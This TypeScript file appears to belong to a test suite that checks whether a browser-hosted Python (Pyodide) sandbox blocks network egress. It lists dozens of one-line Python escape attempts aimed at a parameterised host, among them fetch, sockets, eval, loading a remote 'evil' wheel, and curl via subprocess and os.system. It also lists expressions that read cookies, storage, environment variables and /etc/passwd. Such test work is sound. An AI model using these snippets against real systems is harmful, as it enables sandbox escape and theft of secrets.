import type { Target } from './attempt.ts'

type Tries = (target: Target) => Readonly<Record<string, string>>

/** Ways out of a program in Python, each a few lines that may fail as they like. */
export const pythonRequests: Tries = ({ host, name, page }) => ({
  urllib: `import urllib.request; urllib.request.urlopen('http://${host}/urllib', timeout=1).read()`,
  'http.client': `import http.client; c = http.client.HTTPConnection('${host}', timeout=1); c.request('GET', '/client'); c.getresponse()`,
  'a socket': `import socket; s = socket.create_connection(('${host.split(':')[0]}', ${host.split(':')[1]}), 1); s.send(b'GET /socket HTTP/1.0\\n\\n')`,
  'a datagram': `import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('${host.split(':')[0]}', ${host.split(':')[1]}))`,
  'a name': `import socket; socket.getaddrinfo('${name}', 80)`,
  'a stream of asyncio': `import asyncio; await asyncio.wait_for(asyncio.open_connection('${host.split(':')[0]}', ${host.split(':')[1]}), 1)`,
  pyfetch: `from pyodide.http import pyfetch; await pyfetch('http://${host}/pyfetch')`,
  open_url: `from pyodide.http import open_url; open_url('http://${host}/open_url')`,
  'the fetch of JavaScript': `import js; await js.fetch('http://${host}/fetch')`,
  'the fetch of the prototype': `import js; await js.WorkerGlobalScope.prototype.fetch.call(js.globalThis, 'http://${host}/fetch2')`,
  'the studio by fetch': `import js; await js.WorkerGlobalScope.prototype.fetch.call(js.globalThis, '${page}/leak-by-fetch')`,
  XMLHttpRequest: `import js; x = js.XMLHttpRequest.new(); x.open('GET', 'http://${host}/xhr', False); x.send()`,
  'XMLHttpRequest by reflection': `import js; x = js.Reflect.construct(js.Object.getPrototypeOf(js.XMLHttpRequest.prototype).constructor, []); x.open('GET', 'http://${host}/xhr2'); x.send()`,
  WebSocket: `import js; js.WebSocket.new('ws://${host}/ws')`,
  EventSource: `import js; js.EventSource.new('http://${host}/sse')`,
  WebTransport: `import js; js.WebTransport.new('https://${host}/wt')`,
  'a peer connection': `import js; js.RTCPeerConnection.new()`,
  importScripts: `import js; js.importScripts('http://${host}/scripts.js')`,
  'importScripts of a blob': `import js; js.importScripts(js.URL.createObjectURL(js.Blob.new(['fetch("http://${host}/blob")'])))`,
  'another worker': `import js; js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch("http://${host}/worker")'])))`,
  eval: `import js; js.eval('fetch("http://${host}/eval")')`,
  'a function of text': `import js; js.Function.new('fetch("http://${host}/function")')()`,
  run_js: `from pyodide.code import run_js; run_js('fetch("http://${host}/run_js")')`,
  'a timer with text': `import js; js.setTimeout('fetch("http://${host}/timer")', 0)`,
  'a package from an address': `import pyodide_js; await pyodide_js.loadPackage('http://${host}/evil-1.0-py3-none-any.whl')`,
  'a library from an address': `import ctypes; ctypes.CDLL('http://${host}/lib.so')`,
  'a browser': `import webbrowser; webbrowser.open('http://${host}/browser')`,
  'a process': `import subprocess; subprocess.run(['curl', 'http://${host}/curl'])`,
  'the shell': `import os; os.system('curl http://${host}/system')`,
  'another service': `import xmlrpc.client; xmlrpc.client.ServerProxy('http://${host}/rpc').x()`,
  'a mail': `import smtplib; smtplib.SMTP('${host.split(':')[0]}', ${host.split(':')[1]}, timeout=1)`,
  'a file transfer': `import ftplib; ftplib.FTP().connect('${host.split(':')[0]}', ${host.split(':')[1]}, 1)`,
  'an image of the worker': `import js; await js.createImageBitmap(js.Request.new('http://${host}/bitmap'))`,
  'a font': `import js; f = js.FontFace.new('x', 'url(http://${host}/font)'); await f.load()`,
  'a beacon': `import js; js.navigator.sendBeacon('http://${host}/beacon', 'x')`,
})

/** Where a secret of the page might be found. Each gives a text. */
export const PYTHON_SECRETS: Readonly<Record<string, string>> = {
  'local storage': 'js.localStorage.getItem("secret")',
  'the databases': 'str(await js.indexedDB.databases())',
  'the caches': 'str(await (await js.caches.open("secret")).keys())',
  'the file system of the browser': 'str(await js.navigator.storage.getDirectory())',
  cookies: 'str(js.document.cookie)',
  'the cookie store': 'str(await js.cookieStore.getAll())',
  'a channel': 'str(js.BroadcastChannel.new("secret").postMessage("x"))',
  'a lock': 'str(await js.navigator.locks.query())',
  'the address of the page': 'str(js.location.href) + str(js.location.ancestorOrigins)',
  'the page itself': 'str(js.parent.document) + str(js.top.document)',
  'the window': 'str(js.window.name)',
  'the environment': 'str(dict(os.environ))',
  'the files of the system': 'str(os.listdir("/")) + open("/etc/passwd").read()',
}
